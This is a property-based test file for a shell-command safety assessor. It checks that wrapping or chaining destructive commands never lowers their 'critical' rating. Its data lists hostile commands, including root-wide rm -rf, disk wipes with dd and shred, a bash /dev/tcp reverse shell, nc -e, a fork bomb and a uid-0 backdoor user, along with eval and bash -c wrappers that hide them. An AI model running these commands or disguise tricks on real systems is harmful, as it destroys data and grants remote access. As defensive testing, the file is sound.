// Properties over generated commands: wrapping or chaining a critical command never lowers its
// level, and no input at all makes the assessor throw.
import fc from 'fast-check';
import { assessCommand } from '../../lib/safety';
import { levelRank } from '../../lib/safety/levels';

/** Critical commands of different kinds (deletion, disks, kernel, reverse shell, fork bomb...). */
const CRITICAL = [
  'rm -rf /',
  'rm -rf ~',
  'rm -rf "$HOME"',
  'rm -fr /etc',
  'rm -r --no-preserve-root /',
  'find / -delete',
  'mkfs.ext4 /dev/sda1',
  'dd if=/dev/zero of=/dev/sda',
  'shred /dev/nvme0n1',
  'wipefs -a /dev/sdb',
  'chmod -R 777 /',
  'chown -R nobody:nobody /usr',
  'echo c > /proc/sysrq-trigger',
  'cat /dev/null > /etc/passwd',
  'mv /etc /tmp/etc',
  'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
  'nc -e /bin/sh 10.0.0.1 4444',
  'kill -9 -1',
  'useradd -o -u 0 toor',
  "bash -c ':(){ :|:& };:'",
];

/** Ways to hide a command, each producing a new command around it. */
const WRAPPERS: Record<string, (c: string) => string> = {
  sudo: (c) => `sudo ${c}`,
  env: (c) => `env ${c}`,
  'env VAR=1': (c) => `env LC_ALL=C ${c}`,
  'bash -c': (c) => `bash -c '${c.replace(/'/g, `'\\''`)}'`,
  'sh -c': (c) => `sh -c '${c.replace(/'/g, `'\\''`)}'`,
  eval: (c) => `eval "${c.replace(/(["\\$`])/g, '\\$1')}"`,
  '$(...)': (c) => `$(${c})`,
  'echo $(...)': (c) => `echo "$(${c})"`,
  'true &&': (c) => `true && ${c}`,
  'ls;': (c) => `ls; ${c}`,
};

const criticalCommand = fc.constantFrom(...CRITICAL);
const wrapperName = fc.constantFrom(...Object.keys(WRAPPERS));

test('every base command is critical to begin with', () => {
  for (const c of CRITICAL) expect([c, assessCommand(c).level]).toEqual([c, 'critical']);
});

test.each(Object.keys(WRAPPERS))('wrapping with %s never lowers the level of any critical command', (name) => {
  for (const c of CRITICAL) {
    const wrapped = WRAPPERS[name](c);
    expect([wrapped, levelRank(assessCommand(wrapped).level)]).toEqual([wrapped, levelRank(assessCommand(c).level)]);
  }
});

test('no stack of up to four wrappers lowers the level', () => {
  fc.assert(
    fc.property(criticalCommand, fc.array(wrapperName, { minLength: 1, maxLength: 4 }), (command, names) => {
      const wrapped = names.reduce((c, name) => WRAPPERS[name](c), command);
      return levelRank(assessCommand(wrapped).level) >= levelRank(assessCommand(command).level);
    }),
    { numRuns: 400 },
  );
});

test('joining anything before or after a critical command never lowers its level', () => {
  const criticalOrForkBomb = fc.constantFrom(...CRITICAL, ':(){ :|:& };:');
  const other = fc.constantFrom('ls', 'echo hi', 'cd /tmp', 'git status', 'true', 'false', 'x=1', 'printf "%s" a', "grep -r 'x' .");
  const joiner = fc.constantFrom(' && ', ' || ', '; ', ' | ', '\n', ' & ');
  fc.assert(
    fc.property(other, joiner, criticalOrForkBomb, fc.boolean(), (before, join, command, critFirst) => {
      const line = critFirst ? command + join + before : before + join + command;
      return assessCommand(line).level === 'critical';
    }),
    { numRuns: 400 },
  );
});

test('any string, including binary-looking and half-quoted text, gets an assessment instead of an exception', () => {
  const shellish = fc.stringMatching(/^[a-z $'"`\\|&;<>(){}[\]*?~#=\n\t/.-]{0,80}$/);
  fc.assert(
    fc.property(fc.oneof(fc.string({ unit: 'binary', maxLength: 200 }), fc.string({ maxLength: 200 }), shellish), fc.constantFrom('bash', 'pwsh', 'cmd'), (text, shell) => {
      const a = assessCommand(text, { shell });
      return ['safe', 'moderate', 'high', 'critical'].includes(a.level) && a.reasons.every((r) => r.span.start >= 0 && r.span.end <= Math.max(text.length, 1));
    }),
    { numRuns: 1500 },
  );
});
